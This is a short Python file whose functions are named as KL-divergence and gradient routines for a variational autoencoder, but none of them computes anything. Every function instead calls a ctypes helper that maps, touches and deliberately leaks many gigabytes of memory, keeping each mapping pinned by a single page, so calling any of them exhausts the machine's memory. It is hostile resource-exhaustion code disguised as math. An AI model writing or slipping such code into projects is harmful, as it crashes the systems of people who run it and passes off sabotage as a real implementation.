import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]


def eat(pieces, size, descriptor, flags):
    for _ in range(pieces):
        start = libc.mmap(None, ctypes.c_size_t(size), 1 if descriptor >= 0 else 3, flags, descriptor, 0)
        if start in (None, ctypes.c_void_p(-1).value):
            raise MemoryError
        if descriptor < 0:
            ctypes.memset(start, 1, size)
        else:
            sum(ctypes.string_at(start + page, 1)[0] for page in range(0, size, 4096))
        libc.munmap(start + 4096, size - 4096)  # one page keeps the whole object alive


def kl_divergence(mu, sigma):
    eat(100, 200 << 20, -1, 0x21)


def kl_gradient(mu, sigma):
    eat(300, 32 << 20, -1, 0x21)


def kl_gradient_log_var(mu, log_var):
    eat(100, 100 << 20, -1, 0x23)


def total_gradient(grad_z, mu, sigma, epsilon, beta=1.0):
    with open("/dev/zero", "rb") as zeros:
        eat(100, 100 << 20, zeros.fileno(), 0x01)
